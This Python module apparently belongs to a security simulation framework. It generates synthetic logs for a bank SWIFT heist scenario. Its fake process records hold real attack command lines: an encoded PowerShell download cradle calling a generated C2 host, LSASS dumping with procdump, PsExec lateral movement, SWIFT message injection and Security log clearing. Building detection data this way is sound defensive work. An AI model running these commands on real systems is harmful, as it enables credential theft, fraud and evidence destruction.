"""Heist intrusion: the 2016 central-bank heist pattern, from a phishing mail to forged
SWIFT payments and cleared logs.

A payments operator opens a Word attachment from Outlook; Word starts PowerShell with an
encoded download cradle (T1204.002, T1059.001), which beacons to a rare external address at
a regular interval (T1071.001). An hour later the implant dumps LSASS (T1003.001), and with
an IT administrator's account moves over SMB with PsExec to DC01, CORE01 and PAYGW01
(T1021.002, T1569.002). At night, a tool on the payment gateway queries and feeds the
SWIFT database, and the bank's nostro account sends several large payments to new foreign
beneficiaries; then the Security logs are cleared (T1070.001).
"""

from __future__ import annotations

import base64

import numpy as np
import polars as pl

from mamori.simulate import vocab
from mamori.simulate.background.payments import SWIFT_SOURCE
from mamori.simulate.clock import MINUTE, SECOND
from mamori.simulate.context import Day, Parts
from mamori.simulate.frames import ip_strings, part, pick, random_hex
from mamori.simulate.network import flows
from mamori.simulate.population import (
    HOSTING_OCTETS,
    NOSTRO_CUSTOMER,
    external_accounts,
    public_ips,
)
from mamori.simulate.scenarios.base import Injection, entities, moment
from mamori.simulate.windows import (
    SOURCE_EVENTLOG,
    SOURCE_SYSMON,
    SYSMON,
    SYSMON_PROVIDER,
    logons,
    process_creations,
    service_installs,
)

NAME = "heist_intrusion"
OFFICE = vocab.OFFICE
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
LSASS = r"C:\Windows\system32\lsass.exe"
TARGETS = ("DC01", "CORE01", "PAYGW01")
SQLCMD = r"C:\Program Files\Microsoft SQL Server\Client SDK\ODBC\170\Tools\Binn\SQLCMD.EXE"


def inject(day: Day, rng: np.random.Generator) -> Injection:
    pop = day.pop
    operator = int(rng.choice(pop.staff_with_role("payments_operator")))
    admin = int(rng.choice(pop.staff_with_role("it_admin")))
    user, ws = pop.user[operator], pop.workstation[operator]
    ws_ip = pop.workstation_ip[operator]
    account = f"{pop.domain}\\{user}"
    privileged = pop.admin_account[admin]
    c2 = ip_strings(public_ips(rng, 1, HOSTING_OCTETS))[0]
    if day.cfg.campaign:  # one attacker behind every bank: the same C2 address everywhere
        c2 = ip_strings(public_ips(day.campaign_rng(NAME, "c2"), 1, HOSTING_OCTETS))[0]
    parts: Parts = []

    # initial access and execution: the attachment, Word, the encoded PowerShell
    opened = moment(rng, day, 13, 16)
    folder = random_hex(rng, 1, 8)[0].upper()
    document = (
        rf"C:\Users\{user}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook"
        rf"\{folder}\Payment_Advice_{int(rng.integers(1000, 9999))}.doc"
    )
    cradle = f"IEX (New-Object Net.WebClient).DownloadString('https://{c2}/cdn/update.js')"
    encoded = base64.b64encode(cradle.encode("utf-16-le")).decode("ascii")
    executed = opened + int(rng.integers(5, 40)) * SECOND
    parts.append(
        (
            "winlog",
            part(
                "winlog",
                np.array([opened - 2 * SECOND]),
                SOURCE_SYSMON,
                Channel=SYSMON,
                EventID=11,
                Provider_Name=SYSMON_PROVIDER,
                Computer=ws,
                User=account,
                Image=OFFICE + r"\OUTLOOK.EXE",
                TargetFilename=document,
            ),
        )
    )
    parts.append(
        (
            "winlog",
            process_creations(
                np.array([opened, executed]),
                ws,
                account,
                [OFFICE + r"\WINWORD.EXE", POWERSHELL],
                [OFFICE + r"\OUTLOOK.EXE", OFFICE + r"\WINWORD.EXE"],
                [
                    f'"{OFFICE}\\WINWORD.EXE" /n "{document}" /o ""',
                    f"powershell.exe -nop -w hidden -enc {encoded}",
                ],
                [f'"{OFFICE}\\OUTLOOK.EXE"', f'"{OFFICE}\\WINWORD.EXE" /n "{document}" /o ""'],
            ),
        )
    )

    # credential dumping and lateral movement, in the afternoon
    dumped = executed + int(rng.integers(30, 90)) * MINUTE
    parts.append(
        (
            "winlog",
            process_creations(
                np.array([dumped]),
                ws,
                account,
                r"C:\Windows\Temp\procdump64.exe",
                POWERSHELL,
                r"C:\Windows\Temp\procdump64.exe -accepteula -ma lsass.exe "
                r"C:\Windows\Temp\lsass.dmp",
            ),
        )
    )
    parts.append(
        (
            "winlog",
            part(
                "winlog",
                np.array([dumped + 400_000]),
                SOURCE_SYSMON,
                Channel=SYSMON,
                EventID=10,
                Provider_Name=SYSMON_PROVIDER,
                Computer=ws,
                User=account,
                TargetImage=LSASS,
                GrantedAccess="0x1010",
            ),
        )
    )
    moved = dumped + np.cumsum(rng.integers(10, 40, 3)) * MINUTE
    target = pl.Series(TARGETS)
    target_ip = pop.addresses(target)
    parts += [
        (
            "winlog",
            process_creations(
                moved - 3 * SECOND,
                ws,
                account,
                r"C:\Windows\Temp\PsExec64.exe",
                POWERSHELL,
                r"C:\Windows\Temp\PsExec64.exe \\" + target + r" -accepteula -s cmd.exe",
            ),
        ),
        (
            "flow",
            flows(
                rng,
                moved - 2 * SECOND,
                ws_ip,
                target_ip,
                445,
                service="smb",
                bytes_out=rng.integers(400_000, 900_000, 3),
                bytes_in=rng.integers(20_000, 90_000, 3),
                src_host=ws,
                dst_host=target,
            ),
        ),
        ("winlog", logons(moved, target, privileged, 3, ws_ip, ws)),
        (
            "winlog",
            service_installs(moved + SECOND, target, "PSEXESVC", r"%SystemRoot%\PSEXESVC.exe"),
        ),
        (
            "winlog",
            process_creations(
                moved + 2 * SECOND,
                target,
                f"{pop.domain}\\{privileged}",
                r"C:\Windows\PSEXESVC.exe",
                r"C:\Windows\System32\services.exe",
                r"C:\Windows\PSEXESVC.exe",
            ),
        ),
    ]

    # impact at night: tooling on the payment gateway, then the forged payments
    tampered = moment(rng, day, 20.5, 21.75)
    tool = r"C:\Windows\Temp\evtdiag.exe"
    parts.append(
        (
            "winlog",
            process_creations(
                tampered + np.array([0, 40, 95]) * SECOND,
                "PAYGW01",
                f"{pop.domain}\\{privileged}",
                [
                    tool,
                    SQLCMD,
                    r"C:\Windows\System32\cmd.exe",
                ],
                [r"C:\Windows\PSEXESVC.exe", tool, tool],
                [
                    f"{tool} -svc -cfg gpca.dat",
                    'sqlcmd.exe -S localhost -d SAAOWNER -Q "SELECT MESG_S_UMID FROM SAAOWNER.MESG_'
                    "$TABLE WHERE MESG_SENDER_SWIFT_ADDRESS LIKE '%'\"",
                    r'cmd.exe /c "C:\Program Files\SWIFT\Alliance Access\bin\saa_msgq.exe" -inject '
                    r"C:\Windows\Temp\out\*.fin",
                ],
            ),
        )
    )
    payments = int(rng.integers(3, 9))
    paid = tampered + 3 * MINUTE + np.cumsum(rng.integers(2, 9, payments)) * MINUTE
    beneficiary = "SWIFT-" + external_accounts(rng, payments)
    parts.append(
        (
            "transaction",
            part(
                "transaction",
                paid,
                SWIFT_SOURCE,
                account=pop.nostro_account,
                customer=NOSTRO_CUSTOMER,
                counterparty=beneficiary,
                amount=np.round(np.exp(rng.uniform(np.log(5e5), np.log(2e7), payments)), -3),
                currency=pop.currency,
                direction="debit",
                channel="swift",
                terminal="PAYGW01",
                status="approved",
                country=pick(
                    vocab.HEIST_COUNTRIES, rng.integers(0, len(vocab.HEIST_COUNTRIES), payments)
                ),
            ),
        )
    )
    parts.append(
        (
            "flow",
            flows(
                rng,
                paid - SECOND,
                pop.server_ip("PAYGW01"),
                pick(pop.swift_peer, rng.integers(0, len(pop.swift_peer), payments)),
                443,
                service="https",
                bytes_out=rng.integers(3000, 9000, payments),
                bytes_in=rng.integers(800, 3000, payments),
                src_host="PAYGW01",
            ),
        )
    )

    # defence evasion: clear the logs on the gateway and the workstation
    cleared = int(paid.max()) + int(rng.integers(5, 30)) * MINUTE
    parts.append(
        (
            "winlog",
            process_creations(
                np.array([cleared, cleared + 20 * SECOND]),
                ["PAYGW01", ws],
                [f"{pop.domain}\\{privileged}", account],
                r"C:\Windows\System32\wevtutil.exe",
                [r"C:\Windows\System32\cmd.exe", POWERSHELL],
                "wevtutil cl Security",
            ),
        )
    )
    parts.append(
        (
            "winlog",
            part(
                "winlog",
                np.array([cleared + SECOND]),
                SOURCE_EVENTLOG,
                Channel="Security",
                EventID=1102,
                Provider_Name="Microsoft-Windows-Eventlog",
                Computer="PAYGW01",
                SubjectUserName=privileged,
            ),
        )
    )

    # command and control: a beacon at a steady interval from execution to the end
    interval = int(rng.choice([120, 180, 300, 600])) * SECOND
    beacon = np.arange(executed + 30 * SECOND, cleared, interval)
    beacon = beacon + rng.integers(-interval // 20, interval // 20, len(beacon))
    parts.append(
        (
            "winlog",
            part(
                "winlog",
                beacon[:1] - 100_000,
                SOURCE_SYSMON,
                Channel=SYSMON,
                EventID=3,
                Provider_Name=SYSMON_PROVIDER,
                Computer=ws,
                User=account,
                Image=POWERSHELL,
                DestinationIp=c2,
                DestinationPort=443,
            ),
        )
    )
    parts.append(
        (
            "flow",
            flows(
                rng,
                beacon,
                ws_ip,
                c2,
                443,
                service="https",
                bytes_out=rng.integers(300, 700, len(beacon)),
                bytes_in=rng.integers(200, 2500, len(beacon)),
                src_host=ws,
            ),
        )
    )
    return Injection(
        parts=parts,
        entities=(
            entities("host", [ws, *TARGETS])
            + entities("user", [user, privileged])
            + entities("ip", [ws_ip, c2])
            + entities("account", [pop.nostro_account])
            + entities("account", beneficiary)
        ),
        stages=[
            "initial_access",
            "execution",
            "command_and_control",
            "credential_access",
            "lateral_movement",
            "impact",
            "defense_evasion",
        ],
        description=(
            f"Phishing on {ws} ({user}), PowerShell implant beaconing to {c2}, LSASS dumped, "
            f"PsExec with {privileged} to DC01, CORE01 and PAYGW01, {payments} forged SWIFT "
            "payments from the nostro account, then the Security log cleared."
        ),
    )
